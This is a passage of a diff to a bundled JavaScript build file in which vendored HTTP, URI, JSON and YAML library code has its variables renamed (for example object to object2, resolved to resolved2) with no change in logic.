@@ -407,8 +407,8 @@ var require_tunnel = __commonJS({
     };
     TunnelingAgent.prototype.createSocket = function createSocket(options, cb) {
       var self2 = this;
-      var placeholder = {};
-      self2.sockets.push(placeholder);
+      var placeholder2 = {};
+      self2.sockets.push(placeholder2);
       var connectOptions = mergeOptions2({}, self2.proxyOptions, {
         method: "CONNECT",
         path: options.host + ":" + options.port,
@@ -452,7 +452,7 @@ var require_tunnel = __commonJS({
           var error2 = new Error("tunneling socket could not be established, statusCode=" + res.statusCode);
           error2.code = "ECONNRESET";
           options.request.emit("error", error2);
-          self2.removeSocket(placeholder);
+          self2.removeSocket(placeholder2);
           return;
         }
         if (head.length > 0) {
@@ -461,11 +461,11 @@ var require_tunnel = __commonJS({
           var error2 = new Error("got illegal response body from proxy");
           error2.code = "ECONNRESET";
           options.request.emit("error", error2);
-          self2.removeSocket(placeholder);
+          self2.removeSocket(placeholder2);
           return;
         }
         debug("tunneling connection has established");
-        self2.sockets[self2.sockets.indexOf(placeholder)] = socket;
+        self2.sockets[self2.sockets.indexOf(placeholder2)] = socket;
         return cb(socket);
       }
       function onError(cause) {
@@ -478,7 +478,7 @@ var require_tunnel = __commonJS({
         var error2 = new Error("tunneling socket could not be established, cause=" + cause.message);
         error2.code = "ECONNRESET";
         options.request.emit("error", error2);
-        self2.removeSocket(placeholder);
+        self2.removeSocket(placeholder2);
       }
     };
     TunnelingAgent.prototype.removeSocket = function removeSocket(socket) {
@@ -1299,16 +1299,16 @@ var require_util = __commonJS({
     function isStream2(obj) {
       return obj && typeof obj === "object" && typeof obj.pipe === "function" && typeof obj.on === "function";
     }
-    function isBlobLike(object) {
-      if (object === null) {
+    function isBlobLike(object2) {
+      if (object2 === null) {
         return false;
-      } else if (object instanceof Blob2) {
+      } else if (object2 instanceof Blob2) {
         return true;
-      } else if (typeof object !== "object") {
+      } else if (typeof object2 !== "object") {
         return false;
       } else {
-        const sTag = object[Symbol.toStringTag];
-        return (sTag === "Blob" || sTag === "File") && ("stream" in object && typeof object.stream === "function" || "arrayBuffer" in object && typeof object.arrayBuffer === "function");
+        const sTag = object2[Symbol.toStringTag];
+        return (sTag === "Blob" || sTag === "File") && ("stream" in object2 && typeof object2.stream === "function" || "arrayBuffer" in object2 && typeof object2.arrayBuffer === "function");
       }
     }
     function buildURL(url, queryParams) {
@@ -1590,8 +1590,8 @@ var require_util = __commonJS({
         }
       );
     }
-    function isFormDataLike(object) {
-      return object && typeof object === "object" && typeof object.append === "function" && typeof object.delete === "function" && typeof object.get === "function" && typeof object.getAll === "function" && typeof object.has === "function" && typeof object.set === "function" && object[Symbol.toStringTag] === "FormData";
+    function isFormDataLike(object2) {
+      return object2 && typeof object2 === "object" && typeof object2.append === "function" && typeof object2.delete === "function" && typeof object2.get === "function" && typeof object2.getAll === "function" && typeof object2.has === "function" && typeof object2.set === "function" && object2[Symbol.toStringTag] === "FormData";
     }
     function addAbortListener3(signal, listener) {
       if ("addEventListener" in signal) {
@@ -4424,8 +4424,8 @@ var require_util2 = __commonJS({
       }
       return "allowed";
     }
-    function isErrorLike(object) {
-      return object instanceof Error || (object?.constructor?.name === "Error" || object?.constructor?.name === "DOMException");
+    function isErrorLike(object2) {
+      return object2 instanceof Error || (object2?.constructor?.name === "Error" || object2?.constructor?.name === "DOMException");
     }
     function isValidReasonPhrase(statusText) {
       for (let i3 = 0; i3 < statusText.length; ++i3) {
@@ -4850,7 +4850,7 @@ var require_util2 = __commonJS({
         return new FastIterableIterator(target, kind);
       };
     }
-    function iteratorMixin(name2, object, kInternalIterator, keyIndex = 0, valueIndex = 1) {
+    function iteratorMixin(name2, object2, kInternalIterator, keyIndex = 0, valueIndex = 1) {
       const makeIterator = createIterator(name2, kInternalIterator, keyIndex, valueIndex);
       const properties = {
         keys: {
@@ -4858,7 +4858,7 @@ var require_util2 = __commonJS({
           enumerable: true,
           configurable: true,
           value: function keys() {
-            webidl.brandCheck(this, object);
+            webidl.brandCheck(this, object2);
             return makeIterator(this, "key");
           }
         },
@@ -4867,7 +4867,7 @@ var require_util2 = __commonJS({
           enumerable: true,
           configurable: true,
           value: function values() {
-            webidl.brandCheck(this, object);
+            webidl.brandCheck(this, object2);
             return makeIterator(this, "value");
           }
         },
@@ -4875,8 +4875,8 @@ var require_util2 = __commonJS({
           writable: true,
           enumerable: true,
           configurable: true,
-          value: function entries() {
-            webidl.brandCheck(this, object);
+          value: function entries2() {
+            webidl.brandCheck(this, object2);
             return makeIterator(this, "key+value");
           }
         },
@@ -4885,7 +4885,7 @@ var require_util2 = __commonJS({
           enumerable: true,
           configurable: true,
           value: function forEach(callbackfn, thisArg = globalThis) {
-            webidl.brandCheck(this, object);
+            webidl.brandCheck(this, object2);
             webidl.argumentLengthCheck(arguments, 1, `${name2}.forEach`);
             if (typeof callbackfn !== "function") {
               throw new TypeError(
@@ -4898,7 +4898,7 @@ var require_util2 = __commonJS({
           }
         }
       };
-      return Object.defineProperties(object.prototype, {
+      return Object.defineProperties(object2.prototype, {
         ...properties,
         [Symbol.iterator]: {
           writable: true,
@@ -5298,8 +5298,8 @@ var require_file = __commonJS({
       }
     };
     webidl.converters.Blob = webidl.interfaceConverter(Blob2);
-    function isFileLike(object) {
-      return object instanceof File || object && (typeof object.stream === "function" || typeof object.arrayBuffer === "function") && object[Symbol.toStringTag] === "File";
+    function isFileLike(object2) {
+      return object2 instanceof File || object2 && (typeof object2.stream === "function" || typeof object2.arrayBuffer === "function") && object2[Symbol.toStringTag] === "File";
     }
     module2.exports = { FileLike, isFileLike };
   }
@@ -5747,12 +5747,12 @@ var require_body = __commonJS({
         }
       });
     }
-    function extractBody(object, keepalive = false) {
+    function extractBody(object2, keepalive = false) {
       let stream = null;
-      if (object instanceof ReadableStream) {
-        stream = object;
-      } else if (isBlobLike(object)) {
-        stream = object.stream();
+      if (object2 instanceof ReadableStream) {
+        stream = object2;
+      } else if (isBlobLike(object2)) {
+        stream = object2.stream();
       } else {
         stream = new ReadableStream({
           async pull(controller) {
@@ -5772,17 +5772,17 @@ var require_body = __commonJS({
       let source = null;
       let length = null;
       let type = null;
-      if (typeof object === "string") {
-        source = object;
+      if (typeof object2 === "string") {
+        source = object2;
         type = "text/plain;charset=UTF-8";
-      } else if (object instanceof URLSearchParams) {
-        source = object.toString();
+      } else if (object2 instanceof URLSearchParams) {
+        source = object2.toString();
         type = "application/x-www-form-urlencoded;charset=UTF-8";
-      } else if (isArrayBuffer2(object)) {
-        source = new Uint8Array(object.slice());
-      } else if (ArrayBuffer.isView(object)) {
-        source = new Uint8Array(object.buffer.slice(object.byteOffset, object.byteOffset + object.byteLength));
-      } else if (util.isFormDataLike(object)) {
+      } else if (isArrayBuffer2(object2)) {
+        source = new Uint8Array(object2.slice());
+      } else if (ArrayBuffer.isView(object2)) {
+        source = new Uint8Array(object2.buffer.slice(object2.byteOffset, object2.byteOffset + object2.byteLength));
+      } else if (util.isFormDataLike(object2)) {
         const boundary = `----formdata-undici-0${`${random(1e11)}`.padStart(11, "0")}`;
         const prefix = `--${boundary}\r
 Content-Disposition: form-data`;
@@ -5792,7 +5792,7 @@ Content-Disposition: form-data`;
         const rn = new Uint8Array([13, 10]);
         length = 0;
         let hasUnknownSizeValue = false;
-        for (const [name2, value] of object) {
+        for (const [name2, value] of object2) {
           if (typeof value === "string") {
             const chunk2 = textEncoder3.encode(prefix + `; name="${escape2(normalizeLinefeeds(name2))}"\r
 \r
@@ -5820,7 +5820,7 @@ Content-Type: ${value.type || "application/octet-stream"}\r
         if (hasUnknownSizeValue) {
           length = null;
         }
-        source = object;
+        source = object2;
         action = async function* () {
           for (const part of blobParts) {
             if (part.stream) {
@@ -5831,22 +5831,22 @@ Content-Type: ${value.type || "application/octet-stream"}\r
           }
         };
         type = `multipart/form-data; boundary=${boundary}`;
-      } else if (isBlobLike(object)) {
-        source = object;
-        length = object.size;
-        if (object.type) {
-          type = object.type;
+      } else if (isBlobLike(object2)) {
+        source = object2;
+        length = object2.size;
+        if (object2.type) {
+          type = object2.type;
         }
-      } else if (typeof object[Symbol.asyncIterator] === "function") {
+      } else if (typeof object2[Symbol.asyncIterator] === "function") {
         if (keepalive) {
           throw new TypeError("keepalive");
         }
-        if (util.isDisturbed(object) || object.locked) {
+        if (util.isDisturbed(object2) || object2.locked) {
           throw new TypeError(
             "Response body object should not be disturbed or locked"
           );
         }
-        stream = object instanceof ReadableStream ? object : ReadableStreamFrom(object);
+        stream = object2 instanceof ReadableStream ? object2 : ReadableStreamFrom(object2);
       }
       if (typeof source === "string" || util.isBuffer(source)) {
         length = Buffer.byteLength(source);
@@ -5855,7 +5855,7 @@ Content-Type: ${value.type || "application/octet-stream"}\r
         let iterator;
         stream = new ReadableStream({
           async start() {
-            iterator = action(object)[Symbol.asyncIterator]();
+            iterator = action(object2)[Symbol.asyncIterator]();
           },
           async pull(controller) {
             const { value, done } = await iterator.next();
@@ -5883,12 +5883,12 @@ Content-Type: ${value.type || "application/octet-stream"}\r
       const body2 = { stream, source, length };
       return [body2, type];
     }
-    function safelyExtractBody(object, keepalive = false) {
-      if (object instanceof ReadableStream) {
-        assert2(!util.isDisturbed(object), "The body has already been consumed.");
-        assert2(!object.locked, "The stream is locked.");
+    function safelyExtractBody(object2, keepalive = false) {
+      if (object2 instanceof ReadableStream) {
+        assert2(!util.isDisturbed(object2), "The body has already been consumed.");
+        assert2(!object2.locked, "The stream is locked.");
       }
-      return extractBody(object, keepalive);
+      return extractBody(object2, keepalive);
     }
     function cloneBody(instance2, body2) {
       const [out1, out2] = body2.stream.tee();
@@ -5943,9 +5943,9 @@ Content-Type: ${value.type || "application/octet-stream"}\r
                   return fd;
                 }
                 case "application/x-www-form-urlencoded": {
-                  const entries = new URLSearchParams(value.toString());
+                  const entries2 = new URLSearchParams(value.toString());
                   const fd = new FormData();
-                  for (const [name2, value2] of entries) {
+                  for (const [name2, value2] of entries2) {
                     fd.append(name2, value2);
                   }
                   return fd;
@@ -5968,12 +5968,12 @@ Content-Type: ${value.type || "application/octet-stream"}\r
     function mixinBody(prototype) {
       Object.assign(prototype.prototype, bodyMixinMethods(prototype));
     }
-    async function consumeBody(object, convertBytesToJSValue, instance2) {
-      webidl.brandCheck(object, instance2);
-      if (bodyUnusable(object)) {
+    async function consumeBody(object2, convertBytesToJSValue, instance2) {
+      webidl.brandCheck(object2, instance2);
+      if (bodyUnusable(object2)) {
         throw new TypeError("Body is unusable: Body has already been read");
       }
-      throwIfAborted(object[kState]);
+      throwIfAborted(object2[kState]);
       const promise2 = createDeferredPromise();
       const errorSteps = (error2) => promise2.reject(error2);
       const successSteps = (data) => {
@@ -5983,15 +5983,15 @@ Content-Type: ${value.type || "application/octet-stream"}\r
           errorSteps(e);
         }
       };
-      if (object[kState].body == null) {
+      if (object2[kState].body == null) {
         successSteps(Buffer.allocUnsafe(0));
         return promise2.promise;
       }
-      await fullyReadBody(object[kState].body, successSteps, errorSteps);
+      await fullyReadBody(object2[kState].body, successSteps, errorSteps);
       return promise2.promise;
     }
-    function bodyUnusable(object) {
-      const body2 = object[kState].body;
+    function bodyUnusable(object2) {
+      const body2 = object2[kState].body;
       return body2 != null && (body2.stream.locked || util.isDisturbed(body2.stream));
     }
     function parseJSONFromBytes(bytes) {
@@ -10991,11 +10991,11 @@ var require_mock_utils = __commonJS({
     }
     function buildHeadersFromArray(headers) {
       const clone = headers.slice();
-      const entries = [];
+      const entries2 = [];
       for (let index = 0; index < clone.length; index += 2) {
-        entries.push([clone[index], clone[index + 1]]);
+        entries2.push([clone[index], clone[index + 1]]);
       }
-      return Object.fromEntries(entries);
+      return Object.fromEntries(entries2);
     }
     function matchHeaders(mockDispatch2, headers) {
       if (typeof mockDispatch2.headers === "function") {
@@ -12237,10 +12237,10 @@ var require_headers = __commonJS({
       while (j > i3 && isHTTPWhiteSpaceCharCode(potentialValue.charCodeAt(i3))) ++i3;
       return i3 === 0 && j === potentialValue.length ? potentialValue : potentialValue.substring(i3, j);
     }
-    function fill(headers, object) {
-      if (Array.isArray(object)) {
-        for (let i3 = 0; i3 < object.length; ++i3) {
-          const header = object[i3];
+    function fill(headers, object2) {
+      if (Array.isArray(object2)) {
+        for (let i3 = 0; i3 < object2.length; ++i3) {
+          const header = object2[i3];
           if (header.length !== 2) {
             throw webidl.errors.exception({
               header: "Headers constructor",
@@ -12249,10 +12249,10 @@ var require_headers = __commonJS({
           }
           appendHeader(headers, header[0], header[1]);
         }
-      } else if (typeof object === "object" && object !== null) {
-        const keys = Object.keys(object);
+      } else if (typeof object2 === "object" && object2 !== null) {
+        const keys = Object.keys(object2);
         for (let i3 = 0; i3 < keys.length; ++i3) {
-          appendHeader(headers, keys[i3], object[keys[i3]]);
+          appendHeader(headers, keys[i3], object2[keys[i3]]);
         }
       } else {
         throw webidl.errors.conversionFailed({
@@ -15241,7 +15241,7 @@ var require_util4 = __commonJS({
     var { serializeAMimeType, parseMIMEType } = require_data_url();
     var { types } = __require("node:util");
     var { StringDecoder: StringDecoder3 } = __require("string_decoder");
-    var { btoa } = __require("node:buffer");
+    var { btoa: btoa2 } = __require("node:buffer");
     var staticPropertyDescriptors = {
       enumerable: true,
       writable: false,
@@ -15333,9 +15333,9 @@ var require_util4 = __commonJS({
           dataURL += ";base64,";
           const decoder = new StringDecoder3("latin1");
           for (const chunk of bytes) {
-            dataURL += btoa(decoder.write(chunk));
+            dataURL += btoa2(decoder.write(chunk));
           }
-          dataURL += btoa(decoder.end());
+          dataURL += btoa2(decoder.end());
           return dataURL;
         }
         case "Text": {
@@ -18596,10 +18596,10 @@ var require_eventsource_stream = __commonJS({
     var { Transform: Transform2 } = __require("node:stream");
     var { isASCIINumber, isValidLastEventId } = require_util8();
     var BOM = [239, 187, 191];
-    var LF2 = 10;
-    var CR2 = 13;
+    var LF3 = 10;
+    var CR3 = 13;
     var COLON = 58;
-    var SPACE = 32;
+    var SPACE2 = 32;
     var defaultMaxEventSize = buffer.kStringMaxLength;
     var DATA = Buffer.from("data");
     var EVENT = Buffer.from("event");
@@ -18627,12 +18627,12 @@ var require_eventsource_stream = __commonJS({
       }
       return true;
     }
-    function isFieldName(line, length, field2) {
-      if (length !== field2.length) {
+    function isFieldName(line, length, field3) {
+      if (length !== field3.length) {
         return false;
       }
       for (let i3 = 0; i3 < length; i3++) {
-        if (line[i3] !== field2[i3]) {
+        if (line[i3] !== field3[i3]) {
           return false;
         }
       }
@@ -18711,7 +18711,7 @@ var require_eventsource_stream = __commonJS({
           callback2();
           return;
         }
-        if (this.maxEventSize > 0 && this.chunks.length >= this.maxBufferedChunks && chunk[0] !== LF2 && chunk[0] !== CR2) {
+        if (this.maxEventSize > 0 && this.chunks.length >= this.maxBufferedChunks && chunk[0] !== LF3 && chunk[0] !== CR3) {
           callback2(createMaxEventSizeExceededError());
           return;
         }
@@ -18726,15 +18726,15 @@ var require_eventsource_stream = __commonJS({
           const byte = this.currentByte();
           if (this.eventEndCheck) {
             if (this.crlfCheck) {
-              if (byte === LF2) {
+              if (byte === LF3) {
                 this.crlfCheck = false;
                 this.consumeCurrentByte();
                 continue;
               }
               this.crlfCheck = false;
             }
-            if (byte === LF2 || byte === CR2) {
-              if (byte === CR2) {
+            if (byte === LF3 || byte === CR3) {
+              if (byte === CR3) {
                 this.crlfCheck = true;
               }
               this.consumeCurrentByte();
@@ -18747,8 +18747,8 @@ var require_eventsource_stream = __commonJS({
             this.eventEndCheck = false;
             continue;
           }
-          if (byte === LF2 || byte === CR2) {
-            if (byte === CR2) {
+          if (byte === LF3 || byte === CR3) {
+            if (byte === CR3) {
               this.crlfCheck = true;
             }
             try {
@@ -18791,7 +18791,7 @@ var require_eventsource_stream = __commonJS({
         if (colonPosition !== -1) {
           fieldLength = colonPosition;
           valueStart = colonPosition + 1;
-          if (line[valueStart] === SPACE) {
+          if (line[valueStart] === SPACE2) {
             ++valueStart;
           }
         }
@@ -18833,13 +18833,13 @@ ${value}`;
           }
         }
       }
-      setEventFieldSize(field2, size) {
-        const eventSize = this.eventSize - this.eventFieldSizes[field2] + size;
+      setEventFieldSize(field3, size) {
+        const eventSize = this.eventSize - this.eventFieldSizes[field3] + size;
         if (this.maxEventSize > 0 && eventSize > this.maxEventSize) {
           throw createMaxEventSizeExceededError();
         }
         this.eventSize = eventSize;
-        this.eventFieldSizes[field2] = size;
+        this.eventFieldSizes[field3] = size;
       }
       /**
        * @param {EventSourceStreamEvent} event
@@ -22383,9 +22383,9 @@ var require_resolveCommand = __commonJS({
         } catch (err2) {
         }
       }
-      let resolved;
+      let resolved2;
       try {
-        resolved = which.sync(parsed.command, {
+        resolved2 = which.sync(parsed.command, {
           path: env2[getPathKey({ env: env2 })],
           pathExt: withoutPathExt ? path6.delimiter : void 0
         });
@@ -22395,10 +22395,10 @@ var require_resolveCommand = __commonJS({
           process.chdir(cwd);
         }
       }
-      if (resolved) {
-        resolved = path6.resolve(hasCustomCwd ? parsed.options.cwd : "", resolved);
+      if (resolved2) {
+        resolved2 = path6.resolve(hasCustomCwd ? parsed.options.cwd : "", resolved2);
       }
-      return resolved;
+      return resolved2;
     }
     function resolveCommand2(parsed) {
       return resolveCommandAttempt(parsed) || resolveCommandAttempt(parsed, true);
@@ -28260,65 +28260,65 @@ var require_fast_uri = __commonJS({
       if (baseMalformed || relativeMalformed || baseMalformedPercentEncoding || relativeMalformedPercentEncoding || baseMalformedSchemeSpecific || relativeMalformedSchemeSpecific || baseMalformedHost || relativeMalformedHost || baseMalformedScheme || relativeMalformedScheme) {
         throw new Error(baseParsed.error || relativeParsed.error || "URI is malformed.");
       }
-      const resolved = resolveComponent(baseParsed, relativeParsed, schemelessOptions, true);
-      const resolvedSchemeHandler = getSchemeHandler(options && options.scheme || resolved.scheme);
-      const resolvedHost = resolved.host;
+      const resolved2 = resolveComponent(baseParsed, relativeParsed, schemelessOptions, true);
+      const resolvedSchemeHandler = getSchemeHandler(options && options.scheme || resolved2.scheme);
+      const resolvedHost = resolved2.host;
       const resolvedHostIsIP = resolvedHost !== void 0 && resolvedHost !== "" && (isIPv4(resolvedHost) || normalizeIPv6(resolvedHost).isIPV6);
-      if (hasForbiddenDomainHost(resolved, options || {}, resolvedSchemeHandler, resolvedHostIsIP)) {
+      if (hasForbiddenDomainHost(resolved2, options || {}, resolvedSchemeHandler, resolvedHostIsIP)) {
         throw new Error(MALFORMED_HOST_ERROR);
       }
-      canonicalizeHost(resolved, options || {}, resolvedSchemeHandler, resolvedHostIsIP);
+      canonicalizeHost(resolved2, options || {}, resolvedSchemeHandler, resolvedHostIsIP);
       const encodedASCIIHost = resolvedHost && resolvedHost.indexOf("%") !== -1 && !new RegExp("\\P{ASCII}", "u").test(resolvedHost);
-      if (resolved.error && !encodedASCIIHost) {
-        throw new Error(resolved.error);
+      if (resolved2.error && !encodedASCIIHost) {
+        throw new Error(resolved2.error);
       }
       schemelessOptions.skipEscape = true;
-      return serialize2(resolved, schemelessOptions);
+      return serialize2(resolved2, schemelessOptions);
     }
-    function resolveComponent(base, relative5, options, skipNormalization) {
+    function resolveComponent(base, relative6, options, skipNormalization) {
       const target = {};
       if (!skipNormalization) {
         base = parse(serialize2(base, options), options);
-        relative5 = parse(serialize2(relative5, options), options);
+        relative6 = parse(serialize2(relative6, options), options);
       }
       options = options || {};
-      if (!options.tolerant && relative5.scheme) {
-        target.scheme = relative5.scheme;
-        target.userinfo = relative5.userinfo;
-        target.host = relative5.host;
-        target.port = relative5.port;
-        target.path = removeDotSegments(relative5.path || "");
-        target.query = relative5.query;
+      if (!options.tolerant && relative6.scheme) {
+        target.scheme = relative6.scheme;
+        target.userinfo = relative6.userinfo;
+        target.host = relative6.host;
+        target.port = relative6.port;
+        target.path = removeDotSegments(relative6.path || "");
+        target.query = relative6.query;
       } else {
-        if (relative5.userinfo !== void 0 || relative5.host !== void 0 || relative5.port !== void 0) {
-          target.userinfo = relative5.userinfo;
-          target.host = relative5.host;
-          target.port = relative5.port;
-          target.path = removeDotSegments(relative5.path || "");
-          target.query = relative5.query;
+        if (relative6.userinfo !== void 0 || relative6.host !== void 0 || relative6.port !== void 0) {
+          target.userinfo = relative6.userinfo;
+          target.host = relative6.host;
+          target.port = relative6.port;
+          target.path = removeDotSegments(relative6.path || "");
+          target.query = relative6.query;
         } else {
-          if (!relative5.path) {
+          if (!relative6.path) {
             target.path = base.path;
-            if (relative5.query !== void 0) {
-              target.query = relative5.query;
+            if (relative6.query !== void 0) {
+              target.query = relative6.query;
             } else {
               target.query = base.query;
             }
           } else {
-            if (relative5.path[0] === "/") {
-              target.path = removeDotSegments(relative5.path);
+            if (relative6.path[0] === "/") {
+              target.path = removeDotSegments(relative6.path);
             } else {
               const baseHasAuthority = base.userinfo !== void 0 || base.host !== void 0 || base.port !== void 0;
               if (baseHasAuthority && !base.path) {
-                target.path = "/" + relative5.path;
+                target.path = "/" + relative6.path;
               } else if (!base.path) {
-                target.path = relative5.path;
+                target.path = relative6.path;
               } else {
-                target.path = base.path.slice(0, base.path.lastIndexOf("/") + 1) + relative5.path;
+                target.path = base.path.slice(0, base.path.lastIndexOf("/") + 1) + relative6.path;
               }
               target.path = base.scheme === void 0 && !baseHasAuthority && target.path[0] !== "/" ? removeDotSegmentsRelative(target.path) : removeDotSegments(target.path);
             }
-            target.query = relative5.query;
+            target.query = relative6.query;
           }
           target.userinfo = base.userinfo;
           target.host = base.host;
@@ -28326,7 +28326,7 @@ var require_fast_uri = __commonJS({
         }
         target.scheme = base.scheme;
       }
-      target.fragment = relative5.fragment;
+      target.fragment = relative6.fragment;
       return target;
     }
     function equal(uriA, uriB, options) {
@@ -31605,7 +31605,7 @@ var require_json_parse_even_better_errors = __commonJS({
     var kNewline = /* @__PURE__ */ Symbol.for("newline");
     var formatRE = /^\s*[{\[]((?:\r?\n)+)([\s\t]*)/;
     var emptyRE = /^(?:\{\}|\[\])((?:\r?\n)+)?$/;
-    var parseJson = (txt, reviver, context) => {
+    var parseJson2 = (txt, reviver, context) => {
       const parseText = stripBOM(txt);
       context = context || 20;
       try {
@@ -31626,13 +31626,13 @@ var require_json_parse_even_better_errors = __commonJS({
             systemError: e
           });
         }
-        throw new JSONParseError(e, parseText, context, parseJson);
+        throw new JSONParseError(e, parseText, context, parseJson2);
       }
     };
     var stripBOM = (txt) => String(txt).replace(/^\uFEFF/, "");
-    module2.exports = parseJson;
-    parseJson.JSONParseError = JSONParseError;
-    parseJson.noExceptions = (txt, reviver) => {
+    module2.exports = parseJson2;
+    parseJson2.JSONParseError = JSONParseError;
+    parseJson2.noExceptions = (txt, reviver) => {
       try {
         return JSON.parse(stripBOM(txt), reviver);
       } catch (e) {
@@ -31647,8 +31647,8 @@ var require_build = __commonJS({
     "use strict";
     exports.__esModule = true;
     exports.LinesAndColumns = void 0;
-    var LF2 = "\n";
-    var CR2 = "\r";
+    var LF3 = "\n";
+    var CR3 = "\r";
     var LinesAndColumns = (
       /** @class */
       (function() {
@@ -31657,14 +31657,14 @@ var require_build = __commonJS({
           var offsets = [0];
           for (var offset = 0; offset < string.length; ) {
             switch (string[offset]) {
-              case LF2:
-                offset += LF2.length;
+              case LF3:
+                offset += LF3.length;
                 offsets.push(offset);
                 break;
-              case CR2:
-                offset += CR2.length;
-                if (string[offset] === LF2) {
-                  offset += LF2.length;
+              case CR3:
+                offset += CR3.length;
+                if (string[offset] === LF3) {
+                  offset += LF3.length;
                 }
                 offsets.push(offset);
                 break;
@@ -32203,7 +32203,7 @@ var require_parse_json = __commonJS({
       fileName: errorEx.append("in %s"),
       codeFrame: errorEx.append("\n\n%s\n")
     });
-    var parseJson = (string, reviver, filename) => {
+    var parseJson2 = (string, reviver, filename) => {
       if (typeof reviver === "string") {
         filename = reviver;
         reviver = null;
@@ -32236,8 +32236,8 @@ var require_parse_json = __commonJS({
         throw jsonError;
       }
     };
-    parseJson.JSONError = JSONError;
-    module2.exports = parseJson;
+    parseJson2.JSONError = JSONError;
+    module2.exports = parseJson2;
   }
 });
 
@@ -32626,8 +32626,8 @@ var require_null = __commonJS({
     function constructYamlNull() {
       return null;
     }
-    function isNull(object) {
-      return object === null;
+    function isNull(object2) {
+      return object2 === null;
     }
     module2.exports = new Type("tag:yaml.org,2002:null", {
       kind: "scalar",
@@ -32669,8 +32669,8 @@ var require_bool = __commonJS({
     function constructYamlBoolean(data) {
       return data === "true" || data === "True" || data === "TRUE";
     }
-    function isBoolean(object) {
-      return Object.prototype.toString.call(object) === "[object Boolean]";
+    function isBoolean(object2) {
+      return Object.prototype.toString.call(object2) === "[object Boolean]";
     }
     module2.exports = new Type("tag:yaml.org,2002:bool", {
       kind: "scalar",
@@ -32678,14 +32678,14 @@ var require_bool = __commonJS({
       construct: constructYamlBoolean,
       predicate: isBoolean,
       represent: {
-        lowercase: function(object) {
-          return object ? "true" : "false";
+        lowercase: function(object2) {
+          return object2 ? "true" : "false";
         },
-        uppercase: function(object) {
-          return object ? "TRUE" : "FALSE";
+        uppercase: function(object2) {
+          return object2 ? "TRUE" : "FALSE";
         },
-        camelcase: function(object) {
-          return object ? "True" : "False";
+        camelcase: function(object2) {
+          return object2 ? "True" : "False";
         }
       },
       defaultStyle: "lowercase"
@@ -32776,8 +32776,8 @@ var require_int = __commonJS({
     function constructYamlInteger(data) {
       return parseYamlInteger(data);
     }
-    function isInteger(object) {
-      return Object.prototype.toString.call(object) === "[object Number]" && (object % 1 === 0 && !common2.isNegativeZero(object));
+    function isInteger(object2) {
+      return Object.prototype.toString.call(object2) === "[object Number]" && (object2 % 1 === 0 && !common2.isNegativeZero(object2));
     }
     module2.exports = new Type("tag:yaml.org,2002:int", {
       kind: "scalar",
@@ -32846,8 +32846,8 @@ var require_float = __commonJS({
       return sign * parseFloat(value, 10);
     }
     var SCIENTIFIC_WITHOUT_DOT = /^[-+]?[0-9]+e/;
-    function representYamlFloat(object, style) {
-      if (isNaN(object)) {
+    function representYamlFloat(object2, style) {
+      if (isNaN(object2)) {
         switch (style) {
           case "lowercase":
             return ".nan";
@@ -32856,7 +32856,7 @@ var require_float = __commonJS({
           case "camelcase":
             return ".NaN";
         }
-      } else if (Number.POSITIVE_INFINITY === object) {
+      } else if (Number.POSITIVE_INFINITY === object2) {
         switch (style) {
           case "lowercase":
             return ".inf";
@@ -32865,7 +32865,7 @@ var require_float = __commonJS({
           case "camelcase":
             return ".Inf";
         }
-      } else if (Number.NEGATIVE_INFINITY === object) {
+      } else if (Number.NEGATIVE_INFINITY === object2) {
         switch (style) {
           case "lowercase":
             return "-.inf";
@@ -32874,14 +32874,14 @@ var require_float = __commonJS({
           case "camelcase":
             return "-.Inf";
         }
-      } else if (common2.isNegativeZero(object)) {
+      } else if (common2.isNegativeZero(object2)) {
         return "-0.0";
       }
-      const res = object.toString(10);
+      const res = object2.toString(10);
       return SCIENTIFIC_WITHOUT_DOT.test(res) ? res.replace("e", ".e") : res;
     }
-    function isFloat(object) {
-      return Object.prototype.toString.call(object) === "[object Number]" && (object % 1 !== 0 || common2.isNegativeZero(object));
+    function isFloat(object2) {
+      return Object.prototype.toString.call(object2) === "[object Number]" && (object2 % 1 !== 0 || common2.isNegativeZero(object2));
     }
     module2.exports = new Type("tag:yaml.org,2002:float", {
       kind: "scalar",
@@ -32966,8 +32966,8 @@ var require_timestamp = __commonJS({
       if (delta) date.setTime(date.getTime() - delta);
       return date;
     }
-    function representYamlTimestamp(object) {
-      return object.toISOString();
+    function representYamlTimestamp(object2) {
+      return object2.toISOString();
     }
     module2.exports = new Type("tag:yaml.org,2002:timestamp", {
       kind: "scalar",
@@ -33040,10 +33040,10 @@ var require_binary = __commonJS({
       }
       return new Uint8Array(result);
     }
-    function representYamlBinary(object) {
+    function representYamlBinary(object2) {
       let result = "";
       let bits = 0;
-      const max = object.length;
+      const max = object2.length;
       const map = BASE64_MAP;
       for (let idx = 0; idx < max; idx++) {
         if (idx % 3 === 0 && idx) {
@@ -33052,7 +33052,7 @@ var require_binary = __commonJS({
           result += map[bits >> 6 & 63];
           result += map[bits & 63];
         }
-        bits = (bits << 8) + object[idx];
+        bits = (bits << 8) + object2[idx];
       }
       const tail = max % 3;
       if (tail === 0) {
@@ -33096,9 +33096,9 @@ var require_omap = __commonJS({
     function resolveYamlOmap(data) {
       if (data === null) return true;
       const objectKeys = {};
-      const object = data;
-      for (let index = 0, length = object.length; index < length; index += 1) {
-        const pair = object[index];
+      const object2 = data;
+      for (let index = 0, length = object2.length; index < length; index += 1) {
+        const pair = object2[index];
         let pairHasKey = false;
         if (_toString.call(pair) !== "[object Object]") return false;
         let pairKey;
@@ -33133,10 +33133,10 @@ var require_pairs = __commonJS({
     var _toString = Object.prototype.toString;
     function resolveYamlPairs(data) {
       if (data === null) return true;
-      const object = data;
-      const result = new Array(object.length);
-      for (let index = 0, length = object.length; index < length; index += 1) {
-        const pair = object[index];
+      const object2 = data;
+      const result = new Array(object2.length);
+      for (let index = 0, length = object2.length; index < length; index += 1) {
+        const pair = object2[index];
         if (_toString.call(pair) !== "[object Object]") return false;
         const keys = Object.keys(pair);
         if (keys.length !== 1) return false;
@@ -33146,10 +33146,10 @@ var require_pairs = __commonJS({
     }
     function constructYamlPairs(data) {
       if (data === null) return [];
-      const object = data;
-      const result = new Array(object.length);
-      for (let index = 0, length = object.length; index < length; index += 1) {
-        const pair = object[index];
+      const object2 = data;
+      const result = new Array(object2.length);
+      for (let index = 0, length = object2.length; index < length; index += 1) {
+        const pair = object2[index];
         const keys = Object.keys(pair);
         result[index] = [keys[0], pair[keys[0]]];
       }
@@ -33171,10 +33171,10 @@ var require_set = __commonJS({
     var _hasOwnProperty = Object.prototype.hasOwnProperty;
     function resolveYamlSet(data) {
       if (data === null) return true;
-      const object = data;
-      for (const key in object) {
